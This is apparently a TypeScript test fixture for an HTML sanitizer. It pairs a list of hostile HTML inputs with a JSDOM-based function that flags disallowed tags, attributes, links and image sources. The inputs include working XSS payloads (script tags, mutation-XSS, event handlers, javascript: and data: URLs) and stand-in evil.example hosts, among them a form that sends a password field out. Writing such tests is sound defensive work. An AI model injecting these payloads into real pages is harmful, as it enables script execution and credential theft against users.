import { JSDOM } from 'jsdom';

/** Sets this on the window wherever it runs. */
const BANG = 'window.__bang=1';

/** Texts that try to act, to cover the page, to break out of their place, or to be too much. */
export const HTML_BOMBS: Readonly<Record<string, string>> = {
  script: `<p>a</p><script>${BANG}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  'script in a comment': `<!--><script>${BANG}</script-->--><p>a</p>`,
  'script in a title': `<title><script>${BANG}</script></title><textarea><img src=x onerror="${BANG}"></textarea>`,
  'script after mutation': `<svg><style><img src="</style><img src=x onerror=${BANG}>"></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${BANG}&gt;">`,
  'split script': `<scr<script>ipt>${BANG}</scr</script>ipt>`,
  handlers: `<p onclick="${BANG}" onmouseover=${BANG}>a</p><img src=x onerror="${BANG}"><img src="/images/share.jpg" onload="${BANG}"><a href="/x" onfocus=${BANG} autofocus>b</a><details open ontoggle=${BANG}>c</details><video><source onerror="${BANG}"></video>`,
  links: `<a href="javascript:${BANG}">a</a><a href=" &#1; java&#10;script:${BANG}">b</a><a href="JaVaScRiPt&colon;${BANG}">c</a><a href="data:text/html,<script>${BANG}</script>">d</a><a href="vbscript:x">e</a><a href="//evil.example">f</a>`,
  pictures: `<img src="javascript:${BANG}"><img src="data:image/svg+xml,<svg onload='${BANG}'/>"><img src="http://evil.example/x.png"><img src="//evil.example/x.png"><img src="/storage/documents/1/passport.webp"><img src="/storage/images/../../operator-token.png"><img src="https://user:pass@evil.example/x.png"><img srcset="https://evil.example/x.png 1x"><picture><source srcset="https://evil.example/y.png"></picture>`,
  'huge picture':
    '<img src="https://pictures.example/a.png" width="99999" height="99999" style="position:fixed;inset:0">',
  styles: `<style>*{display:none}</style><p style="position:fixed;inset:0;z-index:9999;background:red">a</p><div class="cover" id="__next">b</div><link rel=stylesheet href=//evil.example/x.css><font size=99>c</font><marquee>d</marquee>`,
  forms: `<form action="https://evil.example"><input name=password autofocus><button formaction="javascript:${BANG}">a</button></form><dialog open>b</dialog><label for=x>c</label>`,
  frames: `<iframe srcdoc="<script>parent.__bang=1</script>"></iframe><object data="x"></object><embed src=x><portal src=x></portal><base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  nesting:
    '</div></article></main></body></html><p>a<ul><li>b</p></table><td>c<table><tr><p>d<a href="/1">e<a href="/2">f</a></a><strong><em>g</strong></em><h2>h<p>i</h2>',
  'deep nesting': `${'<blockquote>'.repeat(2_000)}a${'</blockquote>'.repeat(1_500)}`,
  'many tags': '<p><strong>a</strong></p>'.repeat(2_000),
  'many pictures': '<img src="/images/share.jpg">'.repeat(500),
  'one long word': `<p>${'w'.repeat(20_000)}</p>`,
  'broken tags': `<p <img src=x onerror=${BANG}> <a href="x" <script>${BANG}//</a> <`,
  'broken letters': '<p>\u202e abc \u0000 \ufffe \ud800</p><h2></h2>',
};

const TAGS =
  /^(a|blockquote|br|caption|code|dd|del|dl|dt|em|figcaption|figure|h[234]|hr|img|li|ol|p|pre|strong|table|tbody|td|th|thead|tr|ul)$/;
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  a: /^(href|rel)$/,
  h2: /^id$/,
  img: /^(alt|decoding|height|loading|referrerpolicy|src|width)$/,
};

/** What a browser would find in it that has no place in a page of words. */
export function dangersIn(html: string): string[] {
  const { document } = new JSDOM(`<main>${html}</main><footer></footer>`)
    .window;
  const found: string[] = [];
  // the text ends where it should
  if (document.querySelector('footer')?.parentElement !== document.body)
    found.push('the page around it is not whole');
  for (const element of document.querySelectorAll('main *')) {
    const tag = element.localName;
    if (!TAGS.test(tag)) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES[tag]?.test(name)) found.push(`<${tag} ${name}>`);
      if (
        name === 'href' &&
        !/^(https?:\/\/|mailto:|tel:|[/#?]|\w+$)/.test(value)
      )
        found.push(value);
      if (name === 'src' && !/^(\/(storage\/)?images\/|https:\/\/)/.test(value))
        found.push(value);
      if (/^(width|height)$/.test(name) && Number(value) > 4_000)
        found.push(`${name} ${value}`);
    }
    if (tag === 'img' && element.getAttribute('loading') !== 'lazy')
      found.push('a picture that is not lazy');
  }
  return found;
}
